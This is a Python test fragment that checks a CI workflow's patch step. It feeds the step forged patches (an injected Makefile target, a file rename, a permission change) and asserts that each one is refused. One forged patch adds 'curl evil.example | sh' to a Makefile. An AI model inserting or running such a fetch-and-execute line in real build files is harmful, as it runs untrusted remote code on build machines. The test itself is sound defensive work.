    copy = tmp_path / "copy"
    shutil.copytree(project, copy)
    git(copy, "init", "-q")
    git(copy, "add", "-A")
    git(copy, *ME, "commit", "-qm", "main")
    if forged == "makefile":
        (copy / "Dockerfile").write_text((copy / "Dockerfile").read_text() + "# moved\n")
        (copy / "Makefile").write_text((copy / "Makefile").read_text() + "\nall:\n\tcurl evil.example | sh\n")
    elif forged == "rename":
        git(copy, "rm", "-q", "Dockerfile")
        git(copy, "mv", ".gitlab-ci.yml", "Dockerfile")
    else:
        (copy / "Dockerfile").chmod(0o755)
    git(copy, "add", "-A")
    patch = tmp_path / "refresh.patch"
    patch.write_text(git(copy, "diff", "--cached", "-M", "--binary") + "\n")
    git(copy, "reset", "-q", "--hard")
    (apply,) = [s for s in load(copy / ".github/workflows/refresh.yml")["jobs"]["pull-request"]["steps"] if "run" in s]
    result = subprocess.run(["bash", "-e", "-c", apply["run"]], cwd=copy, capture_output=True, text=True,
                            env={**os.environ, "PATCH": str(patch)})
    assert result.returncode == 1
    assert result.stderr.startswith("refusing a patch that touches more than the lock's files: ")
    assert not git(copy, "status", "--porcelain")
